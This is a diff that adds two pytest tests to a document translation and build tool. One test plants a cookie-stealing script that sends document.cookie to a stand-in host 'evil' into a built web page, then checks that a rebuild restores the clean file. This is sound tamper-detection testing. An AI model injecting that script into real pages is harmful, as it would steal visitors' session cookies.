@@ -247,3 +247,43 @@ def test_words_override_in_cp1252_is_a_one_line_error(project: Path, homelang) -
     )
     assert homelang("extract", expect=2).output == expected
     assert homelang("build", "--draft", "--lang", "es", "-f", "web", expect=2).output == expected
+
+
+def test_tampered_output_is_rendered_again(catalogs_ready: Path, homelang) -> None:
+    """The manifest vouches for an output's bytes too: a planted script does not survive a build."""
+    homelang("pretranslate", "--provider", "pseudo")
+    homelang("build", "--draft", "--lang", "es", "--format", "web")
+    page = catalogs_ready / "build" / "es" / f"{NOTICE}.web.html"
+    clean = page.read_bytes()
+    script = '<script>fetch("//evil/?"+document.cookie)</script></section>'
+    page.write_text(clean.decode("utf-8").replace("</section>", script), "utf-8")
+    result = outputs(
+        homelang("build", "--draft", "--lang", "es", "--format", "web", "--json").output
+    )
+    assert result[f"es/{NOTICE}.web.html"]["rebuilt"]
+    assert page.read_bytes() == clean
+
+
+@pytest.mark.parametrize("draft", [["--draft"], []])
+def test_dropped_language_or_document_leaves_no_outputs(
+    catalogs_ready: Path, homelang, draft: list[str]
+) -> None:
+    """Outputs of a language or document no longer configured are withdrawn, draft or not."""
+    homelang("pretranslate", "--provider", "pseudo")
+    review(catalogs_ready, "ar", FAQ)
+    homelang("build", "--format", "web", "--doc", FAQ)  # ar/FAQ published
+    homelang("build", "--draft", "--format", "web", "--doc", NOTICE)
+    build = catalogs_ready / "build"
+    assert (build / "ar" / f"{NOTICE}.web.html").exists()
+    assert (build / "ar" / f"{FAQ}.web.html").exists()
+    settings = catalogs_ready / "pyproject.toml"
+    text = re.sub(r"(?m)^languages = .*$", 'languages = ["es", "so"]', settings.read_text("utf-8"))
+    settings.write_text(re.sub(r"(?m)^language_providers = .*$", "", text), "utf-8")
+    (catalogs_ready / "source/faq/sanctuary-resolution-faq.md").unlink()
+    homelang("build", "--format", "web", *draft)
+    left = sorted(p.relative_to(build).as_posix() for p in build.glob("*/*.web.html"))
+    assert left and all(p.split("/")[0] in ("en", "es", "so") for p in left), left
+    assert not any(FAQ in p for p in left), left
+    for name in (".manifest.json", ".outputs.json"):
+        kept = json.loads((build / name).read_text("utf-8"))
+        assert all(p.split("/")[0] in ("en", "es", "so") and FAQ not in p for p in kept), kept
